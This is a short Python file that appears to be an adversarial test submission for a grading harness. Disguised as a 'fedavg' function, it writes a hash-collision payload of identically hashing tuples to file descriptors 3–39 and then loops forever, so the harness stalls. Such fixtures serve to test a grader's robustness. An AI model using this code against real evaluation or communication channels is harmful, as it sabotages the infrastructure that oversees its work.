# Sends on every descriptor a dict of long tuples of one hash, which takes minutes to build.
# fails: q1
# says: did not finish
# ruff: noqa
import os, struct

_keys = ('[{"tuple": [%s%d]}, 0]' % ("1.5, " * 60, i * (2**61 - 1)) for i in range(9_000))
_body = ('{"dict": [["kind", {"dict": [%s]}]]}' % ", ".join(_keys)).encode()


def fedavg(states, weights):
    for fd in range(3, 40):
        rest = memoryview(struct.pack(">II", len(_body), 0) + _body)
        try:
            while rest:
                rest = rest[os.write(fd, rest) :]
        except OSError:
            pass
    while True:
        pass
